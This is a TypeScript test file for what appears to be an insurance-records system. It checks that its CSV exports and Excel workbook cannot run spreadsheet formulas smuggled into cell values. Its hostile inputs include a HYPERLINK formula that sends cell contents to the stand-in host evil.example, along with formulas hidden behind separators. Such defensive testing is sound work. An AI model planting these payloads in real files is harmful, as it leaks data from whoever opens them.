/**
 * A text of an office that a spreadsheet would run when somebody opens our files (docs/attacks.md): as a cell of its
 * own, or as a part behind `;`, TAB or a line end, where the spreadsheet splits lines at another separator than ours.
 */
import { inflateRawSync } from 'node:zlib';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { answersWorkbook } from '../../core/answers/answers-workbook.ts';
import { joinAnswers } from '../../core/answers/join-answers.ts';
import { csvCell, plainCell } from '../../core/formats/csv/writer.ts';
import { readZipDirectory } from '../../core/formats/zip/directory.ts';
import { reconcile } from '../../core/reconcile/reconcile.ts';
import { syncBatch } from '../../core/sync-batch.ts';
import { documentFiles, makeDocuments } from '../../core/summary/published-documents.ts';
import { readSummaryInput } from '../../core/summary/summary-read.ts';
import { Office, somePeople } from '../support/office.ts';
import { switchRegistry } from '../support/registry-days.ts';
import { testHash } from '../support/test-world.ts';

const separators = [',', ';', '\t'];

/** Cells as a spreadsheet splits a text at this separator: quotes count at the beginning of a cell alone. */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = [];
  for (let at = 0; at <= text.length; at++) {
    let cell = '';
    if (text[at] === '"') {
      for (at++; at < text.length; at++) {
        if (text[at] === '"' && text[at + 1] !== '"') break;
        if (text[at] === '"') at++;
        cell += text[at];
      }
      at++;
    }
    for (; at < text.length && text[at] !== separator && text[at] !== '\r' && text[at] !== '\n'; at++) cell += text[at];
    cells.push(cell);
  }
  return cells;
}

/** Also with blanks in front, which some spreadsheets take off; a TAB or CR in front is dangerous where it is alone. */
function runs(cell: string, separator: string): boolean {
  return /^\s*[=+\-@＝＋－＠]/.test(cell) || (separator === ',' && /^[\t\r\n]/.test(cell));
}

const running = (text: string, separator: string): string[] =>
  cellsOf(text, separator).filter((cell) => runs(cell, separator));

const attack = `=HYPERLINK("http://evil.example/?"&A1,"x")`;
const hostile = [
  attack,
  `+1+1`,
  `-2+3`,
  `@SUM(A1)`,
  `＝1+1`,
  ` =1+1`,
  `\t=1+1`,
  `\r=1+1`,
  `DV1;${attack}`,
  `DV1; =1+1`,
  `DV1\t=1+1`,
  `DV1\n=1+1`,
  `DV1\r\n@SUM(1)`,
  `DV1;"=1+1;"`,
  `";=1+1`,
  `";"=1+1`,
  `a,b;c;-1`,
  `;;=1`,
  `'=1+1`,
  `DV1;'=1+1`,
];

describe('a cell of a CSV file', () => {
  const alphabet = ['=', '+', '-', '@', '\t', '\r', '\n', ';', ',', '"', "'", ' ', '\u00a0', 'a', '1', '＝'];
  const text = fc.array(fc.constantFrom(...alphabet), { maxLength: 9 }).map((letters) => letters.join(''));

  it('runs nothing, whatever it holds and wherever a spreadsheet splits the line', () => {
    const safe = fc.property(fc.array(text, { minLength: 1, maxLength: 3 }), (texts) => {
      const line = `123,${texts.map(csvCell).join(',')},VERIFIED\r\n${csvCell(texts[0])},9`;
      return separators.every((separator) => running(line, separator).length === 0);
    });
    expect(() => fc.assert(safe, { numRuns: 20_000 })).not.toThrow();
  });

  it('is the text it was when it is read back', () => {
    expect(() => fc.assert(fc.property(text, (each) => plainCell(csvCell(each)) === each))).not.toThrow();
    for (const each of hostile) expect(plainCell(csvCell(each))).toBe(each);
  });

  it('is left as it is where nothing can run', () => {
    for (const each of ['DV1', 'Tổ 3 - Phường 2', 'A;B', 'a=b', 'Nhà 2+3', "H'Mông", ''])
      expect(csvCell(each)).toBe(each);
  });
});

/** The whole job and a night, with every hostile text as a unit and as a category. */
async function hostileOffice(): Promise<{ office: Office; batchId: string; file: Uint8Array }> {
  const people = somePeople(40);
  const office = await Office.open(people);
  const cell = (value: string): string => `"${value.replaceAll('"', '""')}"`;
  const heads = 'participant_number,personal_id,full_name,birth_date,sex,schemes,unit,category';
  const rows = hostile.map((unit, at) => {
    const n = at + 1;
    const id = [people[at].id, people[at].id, '', '052090999999'][at % 4];
    const [year, month, day] = people[at].birth.split('-');
    const fields = [String(5_200_000_000 + n), id, people[at].name, `${day}/${month}/${year}`, '1', 'BHYT'];
    return [...fields, cell(unit), cell(unit)].join(',');
  });
  const again = hostile.map((_, at) => rows[at].replace(/^52000000/, '52000001').replace(',,', `,${people[at].id},`));
  const file = new TextEncoder().encode([heads, ...rows, ...again, `=1+1,x,${attack},,,,,`].join('\n'));
  const key = 'incoming/vn34-52/delta/hostile.csv';
  await office.world.objects.put(key, file, {});
  const version = (await office.world.objects.head(key))?.version ?? '';
  const receipt = await syncBatch(office.world, { key, version });
  expect(receipt.status).toBe('committed');
  const dead = people.map((person, at) => ({ ...person, ...(at % 5 === 0 ? { status: 'deceased' } : {}) }));
  await switchRegistry(office.world, dead, '2026-02-01');
  office.world.clock.time += 86_400_000;
  await reconcile({ ...office.world, childrenNamed: true }, { provinces: ['vn34-52'] });
  return { office, batchId: receipt.batchId, file };
}

/** The parts of a workbook by name. */
function partsOf(book: Uint8Array): [name: string, xml: string][] {
  return [...readZipDirectory(book).values()].map(({ name, start, packed }) => [
    name,
    inflateRawSync(book.subarray(start, start + packed)).toString(),
  ]);
}

describe('units that are formulas', () => {
  it('run in no file that an office, or anybody, is given', async () => {
    const { office, batchId, file } = await hostileOffice();
    const { objects } = office.world;
    const texts = new Map<string, string>();
    for await (const { key } of objects.list('results/'))
      if (key.endsWith('.csv')) texts.set(key, new TextDecoder().decode(await objects.read(key)));
    const names = [...texts.keys()].map((key) => key.split('/').at(-1)?.replace(/-\d+/, ''));
    for (const name of ['outcomes.csv', 'rejected.csv', 'deceased.csv', 'sharing.csv', 'recheck.csv'])
      expect(names).toContain(name);
    const input = await readSummaryInput(office.world, { ledger: true });
    for (const [name, text] of documentFiles(makeDocuments(input, office.world.clock.now())))
      if (name.endsWith('.csv')) texts.set(name, text);
    const found = [...texts].flatMap(([key, text]) =>
      separators.flatMap((separator) => running(text.replace(/^\ufeff/, ''), separator).map((cell) => [key, cell])),
    );
    expect(found).toEqual([]);

    const [outcomes, rejected] = await Promise.all(
      ['outcomes.csv', 'rejected.csv'].map(async (name) => {
        return (await objects.read(`results/vn34-52/${batchId}/${name}`)) ?? new Uint8Array();
      }),
    );
    const book = answersWorkbook({ outcomes, rejected }, { province: 'vn34-52', batch: batchId });
    const receipt = JSON.parse(
      new TextDecoder().decode(await objects.read(`results/vn34-52/${batchId}/receipt.json`)),
    ) as { sha256: string; profile: string };
    const source = {
      open: async function* () {
        yield file;
      },
    };
    const joined = await joinAnswers(source, { ...receipt, outcomes, rejected }, testHash);
    for await (const _ of joined.chunks);
    const parts = partsOf(book);
    expect(parts.filter(([, xml]) => /<f[ >]|<ddeLink|<externalLink/.test(xml))).toEqual([]);
    const sheets = parts.filter(([name]) => /sheet\d+\.xml$/.test(name));
    expect(sheets.length).toBeGreaterThan(1);
    expect(sheets.flatMap(([, xml]) => xml.match(/<c [^>]*t="(?!inlineStr|s")[^"]*"/g) ?? [])).toEqual([]);
    // The book shows the unit as the office wrote it.
    expect(
      partsOf(book)
        .map(([, xml]) => xml)
        .join(''),
    ).toContain('DV1; =1+1');
  });
});
